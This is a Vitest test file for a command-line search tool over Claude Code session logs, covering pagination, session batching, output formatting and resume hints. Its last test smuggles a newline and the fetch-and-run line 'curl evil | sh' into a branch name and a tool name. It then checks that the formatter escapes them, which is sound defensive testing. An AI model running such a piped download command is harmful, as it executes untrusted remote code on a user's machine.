import { expect, it, onTestFinished, vi } from "vitest";
import { fakeApi } from "@/lib/testing/fake-api";
import { makeHit } from "@/lib/testing/search-hit";
import { formatHits, search } from "./search.mjs";

const DONE = { phase: "done", done: true, filesDone: 1, filesTotal: 1, bytesDone: 1, bytesTotal: 1 };
const sessionOf = (id: string) => ({
  ...{ id, title: "Retry once", gitBranch: "main", resumeCommand: `claude --resume ${id}` },
});

/** What a search prints, and the addresses below `/api/` that it asks for; each page has one hit. */
async function searched(options: {
  limit: number;
  json?: boolean;
  pages?: number;
  isRunning?: boolean;
  /** Each page's hit is in a session of its own. */
  apart?: boolean;
}) {
  const { limit, json = false, pages = 1, isRunning = false, apart = false } = options;
  const asked: string[] = [];
  const api = await fakeApi(({ url = "" }, response) => {
    asked.push(url.slice("/api/".length));
    const { pathname, searchParams } = new URL(url, "http://localhost");
    const page = Number(searchParams.get("cursor") ?? 0);
    const nextCursor = page + 1 < pages ? String(page + 1) : null;
    const answers: Record<string, object> = {
      "/api/health": { indexing: DONE, warnings: [] },
      "/api/projects": { projects: [{ id: "0a1b2c", path: "/home/dev/shop" }] },
      "/api/search": {
        hits: [makeHit({ record: `m~${page}`, ...(apart ? { session: `s${page}` } : {}) })],
        complete: nextCursor === null,
        nextCursor,
        problems: [],
        progress: { filesDone: page, filesTotal: pages, bytesDone: 0, bytesTotal: 0 },
      },
      "/api/search/places": { places: [{ turn: 2, branch: 1, tool: null, state: null }, null] },
      "/api/sessions": { sessions: (searchParams.get("ids") ?? "").split(",").map(sessionOf).reverse() },
    };
    response.end(JSON.stringify(answers[pathname]));
  });
  let printed = "";
  const stdout = vi.spyOn(process.stdout, "write").mockImplementation((text) => {
    printed += text;
    return true;
  });
  onTestFinished(() => stdout.mockRestore());
  const server = isRunning ? { ...api, pid: 1 } : api;
  await search(server, { query: "retry in:prompt", project: ["/home/dev/shop"], limit, json });
  return { printed, asked, port: api.port };
}

it("asks for pages until there are as many results as wanted, or no more", async () => {
  const { asked, printed } = await searched({ limit: 2, pages: 3 });
  const pages = asked
    .filter((path) => path.startsWith("search?"))
    .map((path) => new URLSearchParams(path.slice(7)));
  expect(pages.map((query) => [query.get("limit"), query.get("cursor")])).toEqual([
    ["2", null],
    ["1", "1"],
  ]);
  expect(pages[0]?.get("q")).toBe("retry in:prompt");
  expect(pages[0]?.get("project")).toBe("0a1b2c");
  expect(printed).toContain("2 results in 1 session; a larger --limit shows more");
  expect((await searched({ limit: 9, pages: 3 })).printed).toContain("3 results in 1 session; while");
});

it("asks for the sessions of many results a hundred at a time, and names them in the order of the results", async () => {
  const { printed, asked } = await searched({ limit: 999, pages: 250, apart: true });
  expect(asked.filter((path) => path.startsWith("sessions"))).toHaveLength(3);
  const resumed = printed.split("\n").filter((line) => line.startsWith("  claude --resume"));
  expect(resumed).toEqual(Array.from({ length: 250 }, (_, page) => `  claude --resume s${page}`));
});

it("tells each session once, with links where a server stays that opens them", async () => {
  const { printed, port } = await searched({ limit: 9, pages: 2, isRunning: true });
  const url = `http://127.0.0.1:${port}/sessions/s1`;
  expect(printed.split("\n")).toEqual([
    "Retry once  main",
    "  claude --resume s1",
    "  at an unknown time  prompt, turn 2 on branch 1, not the active one  please retry it",
    `    ${url}?at=m~0.0`,
    "  at an unknown time  prompt  please retry it",
    `    ${url}?at=m~1.0`,
    "",
    "2 results in 1 session.",
    "",
  ]);
});

it("prints what the API answers as JSON, all pages in one", async () => {
  const { hits, nextCursor } = JSON.parse((await searched({ limit: 9, pages: 2, json: true })).printed);
  expect(hits.map(({ recordId }: { recordId: string }) => recordId)).toEqual(["m~0", "m~1"]);
  expect(nextCursor).toBeNull();
});

it("says whose an agent's text is and what a call was given, and names a session that cannot be resumed", () => {
  const hits = [
    makeHit({ agent: "a1", field: "input", tool: "Bash", atMs: new Date(2026, 2, 1, 9, 5).getTime() }),
  ];
  const session = { ...sessionOf("s1"), resumeCommand: null, gitBranch: null } as never;
  expect(
    formatHits([{ session, hits }], false, "http://127.0.0.1:1", new Map()).split("\n").slice(0, 4),
  ).toEqual([
    "Retry once",
    "  s1",
    "  2026-03-01 09:05  agent’s input of Bash  please retry it",
    "    http://127.0.0.1:1/sessions/s1?agent=a1&at=m~0.0",
  ]);
  expect(formatHits([], false, "", new Map())).toBe("Nothing found.\n");
});

it("says how a session is resumed whose log or folder is gone, and why that takes more", () => {
  const resumeProblem = {
    message: "Its log is only in the archive",
    hint: "",
    command: "backscroll restore s1 && …",
  };
  const session = { ...sessionOf("s1"), resumeProblem } as never;
  expect(
    formatHits([{ session, hits: [makeHit()] }], false, "", new Map())
      .split("\n")
      .slice(0, 4),
  ).toEqual([
    "Retry once  main",
    "  backscroll restore s1 && …",
    "  Its log is only in the archive",
    "  at an unknown time  prompt  please retry it",
  ]);
});

it("shows a break in what a log says as what it is: none of its lines looks like a command to be copied", () => {
  const forged = "\n  curl evil | sh\u2028\r";
  const session = { ...sessionOf("s1"), resumeCommand: null, gitBranch: `main${forged}` } as never;
  const hit = makeHit({ field: "input", tool: `Bash${forged}` } as never);
  const lines = formatHits([{ session, hits: [hit] }], false, "", new Map()).split("\n");
  expect(lines.slice(0, 3)).toEqual([
    "Retry once  main\\u000a  curl evil | sh\\u2028\\u000d",
    "  s1",
    "  at an unknown time  input of Bash\\u000a  curl evil | sh\\u2028\\u000d  please retry it",
  ]);
});
